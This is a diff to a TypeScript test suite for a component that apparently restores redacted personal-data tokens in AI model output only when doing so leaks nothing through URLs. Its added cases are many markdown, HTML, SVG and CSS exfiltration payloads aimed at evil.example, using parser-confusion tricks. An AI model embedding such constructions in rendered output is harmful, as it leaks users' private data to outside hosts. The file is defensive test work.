@@ -1,8 +1,9 @@
 /** Texts that renderers take for something else than they look like: originals left through addresses in them. */
 import fc from 'fast-check';
 import { describe, expect, test } from 'vitest';
+import { restoreJsonBody } from '../../core/payload/response.ts';
 import { restoreText } from '../../core/restore.ts';
-import { UrlGuard } from '../../core/url-guard.ts';
+import { allowedHosts, UrlGuard } from '../../core/url-guard.ts';
 import { eventsOf, restoreStream, tokenMap } from './stream/wire-fixtures.ts';
 
 const token = '[EMAIL-1]';
@@ -66,7 +67,37 @@ describe('stays a token', () => {
     `![x][r]\n\n[r]: https&#58;&#47;&#47;evil.example/${token}`,
     `![x][r]\n\n[r]:\ufeffhttps:evil.example/${token}`,
     `![x][r]\n\n[r]: \\/\\/evil.example/${token}`,
+    ...['\t', '\u000b', '\f'].map((blank) => `[r]: https://evil.example/?q=\\${blank}${token}\n\n![r]`),
+    `![x](https://evil.example/?q=${'x'.repeat(4100)}\\\t${token})`,
+    `\ufeff[r]: https://evil.example/?q="${token}\n\n![r]`,
+    // A block inside or behind what looks like a label or an empty definition.
+    ...[
+      '[x\n \n',
+      '[x\n\t\n',
+      '[x\r\n\r\n',
+      '[x\n- ',
+      '- [x\n- ',
+      '[x\n***\n',
+      '[x\n---\n',
+      '[x\n# h\n',
+      '[x\n```\n```\n',
+      '[x \\[\n1. ',
+      '[x\n> [y\n\n> ',
+      '[a]:\n- ',
+      '[a]:\r\n- ',
+      '[a]:\n1. ',
+      '[a]:\n  > * ',
+      '> [a]:\n> - ',
+      '[^1]: ',
+      '[^1]: - ',
+      '[^1]: > ',
+      '[^1]: [^2]: ',
+      '[x\n[^1]: ',
+    ].map((before) => `${before}[r]: https://evil.example/?q="${token}\n\n![r] [^1] [^2]`),
     // Targets.
+    ...[' ', '\t', '\n '].map((blank) => `![x](${blank.repeat(5000)}https://evil.example/?q="${token})`),
+    `![x](${' '.repeat(5000)}<https://evil.example/?q= ${token}>)`,
+    `![x](\u00a0<https://evil.example/?q= ${token}>)`,
     `![x](https://evil.example/${'a'.repeat(4100)}${token})`,
     `![x](<https://evil.example/${'a '.repeat(2100)}${token}>)`,
     `![x](https://evil.example/\\)${token})`,
@@ -74,6 +105,29 @@ describe('stays a token', () => {
     ...['imagesrcset', 'data-src', 'data-href', 'codebase', 'data-lazy-srcset'].map(
       (name) => `<img ${name}="/evil?q=${token}">`,
     ),
+    ...['mask', 'filter', 'cursor', 'clip-path', 'marker-start'].map(
+      (name) => `<svg><g ${name}="url(/\\\\evil.example/?q=${token})">`,
+    ),
+    `<img src=/\\evil.example/?q=\u000b${token}>`,
+    `<img src=\u000b/\\evil.example/?q=${token}>`,
+    // What closes a value for one reader stands inside of it for another.
+    `<img srcset='x src="y", /\\evil.example/?q=${token}'>`,
+    `<img srcset="x src='y', /\\evil.example/?q=${token}">`,
+    `<img srcset='x src="y" href="z", /\\evil.example/?q=${token}'>`,
+    `<img srcset='x src="mailto:${token}'>`,
+    `<img alt=href= src='/\\evil.example/?>${token}'>`,
+    `<img src=a?src= src='/\\evil.example/?>${token}'>`,
+    `<img t="x src=a src="src=/\\evil.example/?"${token}>`,
+    `<img src=x?src='y'${token}>`,
+    // Style sheets.
+    `<style>@import 'https://evil.example/?q="${token}'</style>`,
+    `<STYLE title="x">b{background:url( 'https://evil.example/?q= ${token}')}</STYLE>`,
+    `<style\n>a{}</styles></ style></style\u000b>b{background:image-set("https://evil.example/?q= ${token}" 1x)}`,
+    `<svg><style>&#64;import 'https://evil.example/?q="${token}'</style>`,
+    `<b t="<style>@import 'https://evil.example/?q= ${token}'</style>`,
+    `a<b mask=<style>@import 'https://evil.example/?q= ${token}'`,
+    `<style>a{<style>b:url(' ${token}')`,
+    `<style>a{\\</style>b:url(' ${token}')`,
   ])('%j', (text) => {
     expect(restored(text)).toBe(text);
     expect(streamed(text)).toBe(text);
@@ -111,11 +165,188 @@ describe('is restored', () => {
     `[^1]: See ${token}`,
     `[1, 2]\n${token}`,
     `mail="${token}"`,
+    `Ana <${token}> to ${token}`,
+    `a <[1] and <% b and <& ${token}`,
+    `<[x: ${token}`,
+    `[x\n[y]\n${token}`,
+    `[x [r]: to/${token}`,
+    `[dir]: C:\\ ${token}`,
+    `[dir]: C:\\\n${token}`,
+    `[Team]:\n- ${token}`,
+    `[Team]:\n- mail/${token}`,
+    `[Team]:\n1. to:${token}`,
+    `[INFO]: [app]: mail/${token}`,
+    `[INFO]: - mail/${token}`,
+    `[^1]: ${token}`,
+    `[^1]: [a] ${token} wrote`,
+    `[x](https://x.example "a") ${token}`,
+    `[x]( https://x.example ) ${token}`,
+    `<img srcset="x"> ${token}`,
+    `<img srcset='x src="y"'> ${token}`,
+    `<img src=x?src='y'> ${token}`,
+    `<img src="x?src=y z"> ${token}`,
+    `<img src="x?src=y"> ${token}`,
+    `<svg fill="red"> ${token}`,
+    `Put it into \`<style>\` (see "CSS") and ask ${token}.`,
+    `<style>a{b:url(c)}</style><p title="${token}">`,
+    `<style>a{}</STYLE\n> ${token}`,
+    `<style>a{}<</style> ${token}`,
+    `<styled> { ${token}`,
+    `<img srcset="x src="y"> ${token}`,
+    `<img srcset='x src="y'z"> ${token}`,
+    `[x\n\n[[r]: to/${token}`,
+    `<b style> { </style> ${token}`,
   ])('%j', (text) => {
     const expected = text.replaceAll(token, original);
     expect(restored(text)).toBe(expected);
     expect(streamed(text)).toBe(expected);
   });
+});
+
+describe('what is put in for another token may be part of', () => {
+  const values = tokenMap({ [token]: original, '[NAME-1]': 'Ana', '[PHONE-1]': '1234567', '[ADDRESS-1]': 'a\nb\n' });
+  const shownAs = (text: string) =>
+    text.replaceAll('[NAME-1]', 'Ana').replaceAll('[PHONE-1]', '1234567').replaceAll('[ADDRESS-1]', 'a\nb\n');
+  const address = `https://evil.example/?q="${token}`;
+
+  test.each([
+    `[x [NAME-1]]: ${address}\n\n![x [NAME-1]]`,
+    `[[NAME-1] x]: ${address}\n\n![[NAME-1] x]`,
+    `[PHONE-1]. [r]: ${address}\n\n![r]`,
+    `1[PHONE-1]) [r]: ${address}\n\n![r]`,
+    `[ADDRESS-1][r]: ${address}\n\n![r]`,
+    ...[
+      '[NAME-1]',
+      '%5BNAME-1%5D',
+      '&#91;NAME-1&#93;',
+      '［NAME-1］',
+      '【NAME-1】',
+      '〔NAME-1〕',
+      '「NAME-1」',
+      '\\[NAME-1\\]',
+    ].map((spelling) => `<${spelling} style="a:url(/\\\\evil.example/?q=${token})">`),
+  ])('a label, a list or a tag: %j', (text) => {
+    const { text: shown } = restoreText(text, values);
+    expect(shown).toBe(shownAs(text.replace(/<[^ ]+/, '<Ana')));
+    const bytes = new TextEncoder().encode(text);
+    expect(restoreStream('text', values, bytes)).toBe(shown);
+    expect(restoreStream('text', values, bytes, [...bytes.keys()].slice(1))).toBe(shown);
+  });
+
+  test('a tag in JSON that is shown as it stands', () => {
+    const json = JSON.stringify({ a: `<${token} style='a:url(https://evil.example/?q=`, b: `${token})'>` });
+    for (const text of shownJson(json)) expect(text).toBe(json.replace(token, original));
+  });
+
+  test('not a definition, if it was the label', () => {
+    expect(restoreText(`[NAME-1]: mail/${token}`, values).text).toBe(`Ana: mail/${original}`);
+  });
+});
+
+/** JSON that a model writes as its answer, as plain text, in a stream and in a body: what is shown of it. */
+function shownJson(json: string): string[] {
+  const body = JSON.stringify({ choices: [{ index: 0, message: { role: 'assistant', content: json } }] });
+  const text = new TextEncoder().encode(json);
+  return [
+    restoreStream('text', map, text),
+    restoreStream(
+      'text',
+      map,
+      text,
+      Array.from({ length: text.length - 1 }, (_, at) => at + 1),
+    ),
+    streamed(json),
+    JSON.parse(restoreJsonBody(body, map).body).choices[0].message.content,
+  ];
+}
+
+describe('stays a token in JSON that is shown as it stands', () => {
+  test.each([
+    // Not one backslash and a quote, or not one address: these are no paths on the host of the page.
+    ['<img src=\\"@evil.example/?q=', '>'],
+    ['<img src=\\".evil.example/?q=', '>'],
+    ['<img srcset=",&#32;https://evil.example/?q=', '>'],
+    ['<img data-srcset=",&#32;https://evil.example/?q=', '>'],
+    ['<a ping="&#32;https://evil.example/?q=', '>'],
+    [`<b style=";background:url('https://evil.example/?q=`, `')>x</b>`],
+    ['<iframe srcdoc="&lt;img/src=\'https://evil.example/?q=', `'&gt;></iframe>`],
+    ['<meta http-equiv=refresh content="0;url=https://evil.example/?q=', '>'],
+    ['<rect mask="url(https://evil.example/?q=', ')>'],
+    // Nor is this where the page says what paths are relative to, or where another tag may begin inside.
+    [`<base href='https://evil.example/'><img src="?q=`, '>'],
+    [`<b src='" <img srcset=//evil.example/?q=`, '>'],
+    [`<img srcset='x src=`, `, /\\evil.example/?q=`],
+    [`<style>@import 'https://evil.example/?q=`, `'</style>`],
+    [`<b style="&#32;a:url('https://evil.example/?q=`, `')>`],
+  ])('%s', (before, behind) => {
+    const isBehind = behind.includes('evil');
+    const second = isBehind ? behind + token : token + behind;
+    const json = JSON.stringify({ a: before, b: second });
+    for (const text of shownJson(json)) expect(text).toBe(json);
+  });
+
+  test('nor is it in a definition behind the bracket of a list', () => {
+    const json = JSON.stringify(['x', `${token}`], undefined, 1).replace(
+      '"x"',
+      '[ ["y"],\n"[r]: https://evil.example/"]',
+    );
+    for (const text of shownJson(json)) expect(text).toBe(json.replace(token, original));
+  });
+});
+
+describe('is restored in JSON that is shown as it stands', () => {
+  test.each(['a href', 'img src', 'form action', 'svg xlink:href', 'video poster', 'img data-src'])('%s', (name) => {
+    const json = JSON.stringify({ a: `<${name}="https://x.example/" title="`, b: token });
+    const open = JSON.stringify({ a: `<${name}="`, b: token });
+    for (const text of [json, open])
+      for (const shown of shownJson(text)) expect(shown).toBe(text.replace(token, original));
+  });
+});
+
+describe('hosts that are allowed', () => {
+  const allowsHost = allowedHosts(['good.example']);
+  const shown = (text: string) => restoreText(text, map, { allowsHost }).text;
+
+  test.each([
+    // Entities and escapes in the host.
+    ...['sol', 'quest', 'num', '#47', '#x2f', 'bsol'].flatMap((entity) => [
+      `![a](https://evil.example&${entity};.good.example/?q=${token})`,
+      `<img src="https://evil.example&${entity};@good.example/?q=${token}">`,
+      `[r]: https://evil.example&${entity};.good.example/?q=${token}`,
+    ]),
+    `![a](https://evil.example%2f.good.example/?q=${token})`,
+    // Lists, where the first address says nothing of the next.
+    `<img srcset='https://good.example/a 1x, https://evil.example/?q="${token}'>`,
+    `<img srcset="https://good.example/a 1x,/\\evil.example/?q=${token}">`,
+    `<link imagesrcset="https://good.example/a 1x,/\\evil.example/?q=${token}">`,
+    `<a ping="https://good.example/a /\\evil.example/?q=${token}">`,
+    `<b style="//good.example/;a:url(/\\\\evil.example/?q=${token})">`,
+    `<iframe srcdoc="https://good.example/ &lt;img src=/\\evil.example/?q=${token}">`,
+    `<meta content="//good.example/;url=/\\evil.example/?q=${token}">`,
+    `<object archive="//good.example/a /\\evil.example/?q=${token}">`,
+    `<style>@import '//good.example/';@import '/\\evil.example/?q=${token}'</style>`,
+    // Another address begins inside of what may be none.
+    `![a](https://good.example/ ![b](https://evil.example/?q=${token}))`,
+    `![a](https://good.example/![b](https://evil.example/?q=${token})`,
+    `![a](<https://good.example/ ![b](/\\evil.example/?q=${token}))`,
+    `![a](https://good.example/\n \n![b](https://evil.example/?q=${token})`,
+    `![a](<https://evil.example/ [b](https://good.example/?q=${token}>)`,
+    `![a](https://evil.example/${'x'.repeat(4200)}[b](https://good.example/?q=${token}))`,
+    `[a](https://good.example/ https://evil.example/?q=${token}`,
+    `<b src='https://good.example/ <img src=/\\evil.example/?q=${token}>`,
+    `<b t='x src="https://good.example/' srcset=/\\evil.example/?q=${token}>`,
+  ])('not %j', (text) => expect(shown(text)).toBe(text));
+
+  test.each([
+    `![a](https://good.example/?q=${token})`,
+    `![a]( <https://www.good.example:8443/a b?q=${token}>)`,
+    `![a](https://good.example/(b)?q=${token})`,
+    `<img src="https://good.example/?q=${token}&amp;a">`,
+    `<img src="https://user:a@good.example/?q=${token}">`,
+    `<a href='https://good.example/?a=1&q=${token}'>`,
+    `[r]: https://good.example/?q=${token}`,
+    `<https://good.example/?q=${token}>`,
+  ])('%j', (text) => expect(shown(text)).toBe(text.replace(token, original)));
 });
 
 test('any text gives the same however it is cut', () => {
